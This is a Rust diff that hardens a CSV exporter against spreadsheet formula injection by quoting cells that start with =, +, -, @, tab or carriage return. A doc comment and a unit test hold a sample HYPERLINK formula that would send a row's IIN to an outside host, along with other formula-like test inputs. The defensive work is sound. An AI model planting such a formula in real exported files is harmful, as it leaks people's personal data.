@@ -52,7 +52,8 @@ impl Table {
         }
     }
 
-    /// `;`-separated with a BOM, so Excel in ru-KZ opens it as columns.
+    /// `;`-separated with a BOM, so Excel in ru-KZ opens it as columns. A text cell a
+    /// spreadsheet would read as a formula is neutralised (see `csv_field`).
     pub fn to_csv(&self) -> String {
         let mut csv = String::from("\u{feff}");
         csv.push_str(&self.headers.join(";"));
@@ -62,10 +63,7 @@ impl Table {
                 .iter()
                 .map(|cell| match cell {
                     Cell::Number(number) => number.to_string(),
-                    Cell::Text(text) if text.contains([';', '"', '\n', '\r']) => {
-                        format!("\"{}\"", text.replace('"', "\"\""))
-                    }
-                    Cell::Text(text) => text.clone(),
+                    Cell::Text(text) => csv_field(text),
                 })
                 .collect();
             let _ = writeln!(csv, "{}", fields.join(";"));
@@ -108,6 +106,26 @@ impl Table {
     }
 }
 
+/// Characters that make Excel and LibreOffice read a cell as a formula (OWASP's CSV
+/// injection list): a name like `=HYPERLINK("http://…?"&A2)` would send a row's IIN away.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One text cell: a leading `'` makes a would-be formula plain text (both spreadsheets
+/// show the rest as typed), then quoting where `;`, `"` or a line break needs it. XLSX
+/// needs neither: its cells are typed strings.
+fn csv_field(text: &str) -> String {
+    let neutral = if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
+    if neutral.contains([';', '"', '\n', '\r']) {
+        format!("\"{}\"", neutral.replace('"', "\"\""))
+    } else {
+        neutral
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -128,6 +146,32 @@ mod tests {
         assert_eq!(
             sample().to_csv(),
             "\u{feff}iin;name;present\n060315500016;\"Әлі; \"\"Қ\"\"\";3\n060315600022;Дана;0\n"
+        );
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_evaluate_are_plain_text() {
+        let table = Table {
+            name: "hostile".into(),
+            headers: vec!["name".into(), "count".into()],
+            rows: [
+                "=HYPERLINK(\"http://x/?\"&A2;\"a\")",
+                "+1",
+                "-2+3",
+                "@SUM(A1)",
+                "\t=1",
+                "\r=1",
+                "a=1",
+            ]
+            .into_iter()
+            .map(|name| vec![name.into(), Cell::Number(-1.0)])
+            .collect(),
+        };
+        assert_eq!(
+            table.to_csv(),
+            "\u{feff}name;count\n\
+             \"'=HYPERLINK(\"\"http://x/?\"\"&A2;\"\"a\"\")\";-1\n\
+             '+1;-1\n'-2+3;-1\n'@SUM(A1);-1\n'\t=1;-1\n\"'\r=1\";-1\na=1;-1\n"
         );
     }
 
